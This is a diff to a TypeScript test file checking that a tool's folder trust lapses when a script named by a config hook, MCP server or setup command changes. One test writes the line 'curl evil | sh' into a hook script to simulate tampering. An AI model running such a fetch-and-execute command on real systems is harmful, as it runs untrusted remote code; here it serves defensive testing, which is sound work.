@@ -1,10 +1,18 @@
-import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import {
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { readConfig } from './config.ts';
 import { findPlaces, type Places } from './places.ts';
-import { trust, trustOf } from './trust.ts';
+import { takeBackTrust, trust, trustedFiles, trustOf } from './trust.ts';
 import { writeSettings } from './write-settings.ts';
 
 let folder = '';
@@ -54,4 +62,76 @@ test('what we write for the person who trusts it stays trusted; what nobody trus
   write('config.toml', HOOK);
   writeSettings(target, [{ path: ['ceilings', 'max_usd'], value: 1 }]);
   expect(trustOf(places)).toBe('changed');
+});
+
+const GUARD =
+  '[hooks.guard]\non = "before_tool"\ncommand = ["./hooks/guard.sh", "--rules=hooks/rules"]\n';
+const inRepository = (name: string, text: string): void => {
+  mkdirSync(dirname(join(places.root, name)), { recursive: true });
+  writeFileSync(join(places.root, name), text);
+};
+
+test('a script that a hook names is trusted with it, and a change of it ends that', () => {
+  write('config.toml', GUARD);
+  inRepository('hooks/guard.sh', 'exit 0\n');
+  trust(places);
+  expect(trustedFiles(places).map(({ path }) => path)).toEqual(['hooks/guard.sh']);
+  expect(trustOf(places)).toBe('trusted');
+  inRepository('hooks/other.sh', 'nobody names it\n');
+  expect(trustOf(places)).toBe('trusted');
+  inRepository('hooks/guard.sh', 'curl evil | sh\n');
+  expect(trustOf(places)).toBe('files_changed');
+  expect(read().hooks.hooks).toEqual([]);
+  expect(read().warnings.map(({ message }) => message)).toEqual([
+    `${join(places.projectFolder, 'config.toml')} does not count: a file that it names is not as it was when you trusted the folder`,
+  ]);
+  trust(places);
+  expect(trustOf(places)).toBe('trusted');
+  inRepository('hooks/rules', 'a file that it named, and that was not there\n');
+  expect(trustOf(places)).toBe('files_changed');
+});
+
+test.each([
+  [
+    'a line for a shell',
+    '[hooks.g]\non = "after_leaf"\ncommand = "cd . && sh \'tools/x\' | cat"\n',
+  ],
+  ['a place by a variable', '[hooks.g]\non = "after_leaf"\ncommand = "$PWD/tools/x"\n'],
+  ['a server of tools', '[mcp.s]\ncommand = ["node", "tools/x"]\nallow = []\n'],
+  [
+    'a variable of one',
+    '[mcp.s]\ncommand = ["node"]\nset = {NODE_OPTIONS = "--require=./tools/x"}\nallow = []\n',
+  ],
+  ['the setup', '[workspace]\nsetup = "./tools/x --all"\n'],
+])('%s names a file too', (_name, config) => {
+  write('config.toml', config);
+  inRepository('tools/x', 'one');
+  trust(places);
+  inRepository('tools/x', 'two');
+  expect(trustOf(places)).toBe('files_changed');
+});
+
+test('where a link leads is part of it; what lies outside of the repository is not', () => {
+  write(
+    'config.toml',
+    '[hooks.g]\non = "after_leaf"\ncommand = ["./run", "../outside", "/etc/hosts"]\n',
+  );
+  writeFileSync(join(folder, 'outside'), 'a');
+  inRepository('one', 'same');
+  inRepository('two', 'same');
+  symlinkSync('one', join(places.root, 'run'));
+  trust(places);
+  writeFileSync(join(folder, 'outside'), 'b');
+  expect(trustOf(places)).toBe('trusted');
+  rmSync(join(places.root, 'run'));
+  symlinkSync('two', join(places.root, 'run'));
+  expect(trustOf(places)).toBe('files_changed');
+});
+
+test('a config without such files is trusted by the line that it always had', () => {
+  write('config.toml', '[ceilings]\nmax_usd = 1\n');
+  trust(places);
+  expect(readFileSync(join(places.userFolder, 'trusted'), 'utf8')).toMatch(/^[0-9a-f]{64} \/.*\n$/);
+  takeBackTrust(places);
+  expect(trustOf(places)).toBe('not_trusted');
 });
